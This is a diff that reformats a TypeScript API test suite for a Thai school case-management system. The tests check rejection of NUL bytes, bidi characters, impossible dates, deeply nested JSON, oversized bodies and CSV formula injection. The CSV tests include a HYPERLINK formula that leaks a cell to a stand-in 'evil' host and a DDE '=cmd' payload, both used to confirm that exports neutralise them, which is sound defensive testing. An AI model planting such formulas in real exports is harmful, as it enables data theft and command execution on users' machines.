@@ -27,19 +27,43 @@ beforeAll(async () => {
 afterAll(() => w.close());
 
 const caseBody = (over: Record<string, unknown> = {}) => ({
-  workflowId: 'sample-approval', officeId: w.a.officeId, schoolId: w.a.schoolIds[0], subjectPersonId: w.a.users.teacher.personId, title: 'ขอย้าย', input: { amount: 5 }, ...over,
+  workflowId: 'sample-approval',
+  officeId: w.a.officeId,
+  schoolId: w.a.schoolIds[0],
+  subjectPersonId: w.a.users.teacher.personId,
+  title: 'ขอย้าย',
+  input: { amount: 5 },
+  ...over,
 });
 const countCases = async () => Number((await sql<{ n: string }>`select count(*)::text as n from cases`.execute(w.tdb.db)).rows[0]!.n);
-const raw = async (method: 'POST' | 'GET', url: string, payload: string, headers: Record<string, string> = {}, who: string | null = 'a.teacher') =>
-  w.app.inject({ method, url, payload, headers: { 'content-type': 'application/json', ...(who ? { cookie: await w.cookieOf(who) } : {}), ...headers } });
+const raw = async (
+  method: 'POST' | 'GET',
+  url: string,
+  payload: string,
+  headers: Record<string, string> = {},
+  who: string | null = 'a.teacher',
+) =>
+  w.app.inject({
+    method,
+    url,
+    payload,
+    headers: { 'content-type': 'application/json', ...(who ? { cookie: await w.cookieOf(who) } : {}), ...headers },
+  });
 
 describe('NUL bytes and lone surrogates', () => {
   it('refuses a NUL in a sign-in body, a case title, a nested payload string and a key (400, nothing written)', async () => {
     const before = await countCases();
     const signIn = await w.app.inject({ method: 'POST', url: '/api/auth/sign-in', payload: { username: 'a\u0000b', password: 'x' } });
     expect(signIn.statusCode).toBe(400);
-    expect(signIn.json()).toMatchObject({ code: 'INPUT_CHARACTER_NOT_ALLOWED', message: { th: expect.any(String), en: expect.any(String) } });
-    for (const body of [caseBody({ title: 'x\u0000' }), caseBody({ input: { deep: [{ note: 'a\u0000' }] } }), caseBody({ input: { 'k\u0000': 1 } })]) {
+    expect(signIn.json()).toMatchObject({
+      code: 'INPUT_CHARACTER_NOT_ALLOWED',
+      message: { th: expect.any(String), en: expect.any(String) },
+    });
+    for (const body of [
+      caseBody({ title: 'x\u0000' }),
+      caseBody({ input: { deep: [{ note: 'a\u0000' }] } }),
+      caseBody({ input: { 'k\u0000': 1 } }),
+    ]) {
       const res = await w.call('a.teacher', 'POST', '/api/cases', body);
       expect(res.statusCode).toBe(400);
       expect(res.json().code).toBe('INPUT_CHARACTER_NOT_ALLOWED');
@@ -76,15 +100,32 @@ describe('NUL bytes and lone surrogates', () => {
 
 describe('impossible dates', () => {
   it('refuses 2027-02-30 as a committee term (400 INVALID_PAYLOAD), accepts 2028-02-29', async () => {
-    const created = await w.call('a.hr', 'POST', `/api/offices/${w.a.officeId}/committees`, { kind: 'screening', nameTh: 'คณะกรรมการ', nameEn: 'Committee' });
+    const created = await w.call('a.hr', 'POST', `/api/offices/${w.a.officeId}/committees`, {
+      kind: 'screening',
+      nameTh: 'คณะกรรมการ',
+      nameEn: 'Committee',
+    });
     expect(created.statusCode).toBe(201);
     const committeeId = created.json().committeeId as string;
-    const bad = await w.call('a.hr', 'POST', `/api/committees/${committeeId}/members`, { personId: w.a.users.area.personId, seat: 'chair', termFrom: '2027-02-30' });
+    const bad = await w.call('a.hr', 'POST', `/api/committees/${committeeId}/members`, {
+      personId: w.a.users.area.personId,
+      seat: 'chair',
+      termFrom: '2027-02-30',
+    });
     expect(bad.statusCode).toBe(400);
     expect(bad.json()).toMatchObject({ code: 'INVALID_PAYLOAD', detail: { issues: [expect.objectContaining({ path: 'body.termFrom' })] } });
-    const until = await w.call('a.hr', 'POST', `/api/committees/${committeeId}/members`, { personId: w.a.users.area.personId, seat: 'chair', termFrom: '2027-01-01', termUntil: '2027-13-01' });
+    const until = await w.call('a.hr', 'POST', `/api/committees/${committeeId}/members`, {
+      personId: w.a.users.area.personId,
+      seat: 'chair',
+      termFrom: '2027-01-01',
+      termUntil: '2027-13-01',
+    });
     expect(until.statusCode).toBe(400);
-    const ok = await w.call('a.hr', 'POST', `/api/committees/${committeeId}/members`, { personId: w.a.users.area.personId, seat: 'chair', termFrom: '2028-02-29' });
+    const ok = await w.call('a.hr', 'POST', `/api/committees/${committeeId}/members`, {
+      personId: w.a.users.area.personId,
+      seat: 'chair',
+      termFrom: '2028-02-29',
+    });
     expect(ok.statusCode).toBe(201);
   });
 });
@@ -92,7 +133,12 @@ describe('impossible dates', () => {
 describe('deep JSON', () => {
   it('refuses 100,000-deep arrays with an Idempotency-Key (400 INPUT_TOO_DEEP, no stack overflow), before anything recursive runs; 200,000 deep is over the size limit', async () => {
     const { caseId } = (await w.call('a.teacher', 'POST', '/api/cases', caseBody())).json() as { caseId: string };
-    const huge = await raw('POST', `/api/cases/${caseId}/events`, `{"type":"approve","payload":${'['.repeat(200_000) + ']'.repeat(200_000)}}`, { 'idempotency-key': 'deep-0' });
+    const huge = await raw(
+      'POST',
+      `/api/cases/${caseId}/events`,
+      `{"type":"approve","payload":${'['.repeat(200_000) + ']'.repeat(200_000)}}`,
+      { 'idempotency-key': 'deep-0' },
+    );
     expect(huge.statusCode).toBe(413);
     const deep = '['.repeat(100_000) + ']'.repeat(100_000);
     const keys = Number((await sql<{ n: string }>`select count(*)::text as n from idempotency_keys`.execute(w.tdb.db)).rows[0]!.n);
@@ -131,9 +177,16 @@ describe('text: NFC, control and bidi characters', () => {
     for (const title of ['\u202Eเรื่องปลอม', 'a\u2066b', 'line\nbreak', 'tab\there', 'del\u007f', 'rlm\u200f']) {
       const res = await w.call('a.teacher', 'POST', '/api/cases', caseBody({ title }));
       expect(res.statusCode).toBe(400);
-      expect(res.json()).toMatchObject({ code: 'INVALID_PAYLOAD', detail: { issues: [{ path: 'body.title', code: 'forbidden_character' }] } });
+      expect(res.json()).toMatchObject({
+        code: 'INVALID_PAYLOAD',
+        detail: { issues: [{ path: 'body.title', code: 'forbidden_character' }] },
+      });
     }
-    const committee = await w.call('a.hr', 'POST', `/api/offices/${w.a.officeId}/committees`, { kind: 'screening', nameTh: 'คณะ\u202Eกรรมการ', nameEn: 'C' });
+    const committee = await w.call('a.hr', 'POST', `/api/offices/${w.a.officeId}/committees`, {
+      kind: 'screening',
+      nameTh: 'คณะ\u202Eกรรมการ',
+      nameEn: 'C',
+    });
     expect(committee.statusCode).toBe(400);
     expect(committee.json().detail.issues[0]).toMatchObject({ path: 'body.nameTh', code: 'forbidden_character' });
     expect(await countCases()).toBe(before);
@@ -158,7 +211,9 @@ describe('body limits and media types', () => {
     const { port } = w.app.server.address() as { port: number };
     return new Promise<string>((resolve, reject) => {
       const socket = connect(port, '127.0.0.1', () => {
-        socket.write(`POST ${path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n${cookie ? `Cookie: ${cookie}\r\nOrigin: http://x\r\n` : ''}Content-Length: ${100 * 1024 * 1024}\r\n\r\n{"title":"`);
+        socket.write(
+          `POST ${path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n${cookie ? `Cookie: ${cookie}\r\nOrigin: http://x\r\n` : ''}Content-Length: ${100 * 1024 * 1024}\r\n\r\n{"title":"`,
+        );
       });
       let data = '';
       socket.on('data', (chunk) => {
@@ -214,7 +269,10 @@ describe('import limits', () => {
     expect(nul.json().code).toBe('INPUT_CHARACTER_NOT_ALLOWED');
     const bidi = await w.call('a.admin', 'POST', url(), `${header}S1,\u202Eโรงเรียน,\r\n`, CSV);
     expect(bidi.statusCode).toBe(200);
-    expect(bidi.json().rows[0]).toMatchObject({ status: 'rejected', reasons: [expect.objectContaining({ code: 'forbidden_character', column: 'name_th' })] });
+    expect(bidi.json().rows[0]).toMatchObject({
+      status: 'rejected',
+      reasons: [expect.objectContaining({ code: 'forbidden_character', column: 'name_th' })],
+    });
     const columnsDoc = await w.call('a.admin', 'GET', '/api/import/schools/columns');
     expect(columnsDoc.json().maxRows).toBe(3);
   });
@@ -241,7 +299,23 @@ describe('statement timeout', () => {
 
 describe('CSV formula neutralisation', () => {
   it('prefixes text starting with = + - @ TAB CR, keeps numbers and plain-number text', () => {
-    const csv = toCsv(['c'], [['=HYPERLINK("https://evil/?"&A1,"ดูเอกสาร")'], ['+1+2'], ['-x'], ['@SUM(A1)'], ['\tx'], ['\rx'], ['-12.5'], ['+66'], [-5], [3.25], ['ครู'], [null]]);
+    const csv = toCsv(
+      ['c'],
+      [
+        ['=HYPERLINK("https://evil/?"&A1,"ดูเอกสาร")'],
+        ['+1+2'],
+        ['-x'],
+        ['@SUM(A1)'],
+        ['\tx'],
+        ['\rx'],
+        ['-12.5'],
+        ['+66'],
+        [-5],
+        [3.25],
+        ['ครู'],
+        [null],
+      ],
+    );
     const lines = csv.replace(/^\uFEFF/, '').split('\r\n');
     expect(lines.slice(1, 13)).toEqual([
       `"'=HYPERLINK(""https://evil/?""&A1,""ดูเอกสาร"")"`,
@@ -261,7 +335,17 @@ describe('CSV formula neutralisation', () => {
 
   it('neutralises the minutes CSV too', () => {
     const m = {
-      items: [{ position: 1, title: '=cmd|" /C calc"!A0', resolution: null, status: 'pending', tally: { approve: 0, reject: 0, defer: 0, abstain: 0 }, recusals: [], note: '-3' }],
+      items: [
+        {
+          position: 1,
+          title: '=cmd|" /C calc"!A0',
+          resolution: null,
+          status: 'pending',
+          tally: { approve: 0, reject: 0, defer: 0, abstain: 0 },
+          recusals: [],
+          note: '-3',
+        },
+      ],
     } as unknown as Minutes;
     const csv = minutesToCsv(m);
     expect(csv).toContain(`"'=cmd|"" /C calc""!A0"`);
